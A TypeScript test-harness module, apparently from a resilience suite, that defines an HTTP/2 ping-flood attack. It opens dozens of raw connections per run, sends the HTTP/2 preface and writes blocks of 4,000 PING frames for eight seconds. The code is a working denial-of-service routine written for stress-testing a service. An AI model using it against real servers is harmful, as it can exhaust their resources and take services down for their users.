import { Buffer } from "node:buffer";
import {
  type Attack,
  connectRaw,
  many,
  oneProvider,
  pause,
  type RawConnection,
} from "./support.ts";

const CONNECTION_COUNT = 60;

/** First bytes of a client of HTTP/2, with empty settings (RFC 9113, section 3.4). */
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "latin1");

/** Pings of HTTP/2, of 17 bytes each. */
const PINGS = Buffer.from("\0\0\x08\x06\0\0\0\0\0pingpong".repeat(4_000), "latin1");

/** Time for which pings are sent. */
const FLOOD_MS = 8_000;

/** Floods of pings over HTTP/2, of which none arrives. */
export const http2Pings: Attack = {
  row: "A5 http2",
  size: (times) => `${CONNECTION_COUNT * times} connections of HTTP/2, pings`,
  config: (upstream) => oneProvider(`${upstream}/compat/v1`),
  async load(target, times) {
    const connections = await many(CONNECTION_COUNT * times, () => connectRaw(target));
    let isOver = false, written = 0;

    async function flood(connection: RawConnection) {
      await connection.write(PREFACE);
      while (!isOver && await connection.write(PINGS)) written++;
    }

    // What is not received keeps a write waiting for as long as its connection is open.
    for (const connection of connections) void flood(connection);
    await pause(FLOOD_MS);
    isOver = true;
    for (const connection of connections) connection[Symbol.dispose]();
    return `${connections.length} connections, ${written} x 4000 pings written`;
  },
};
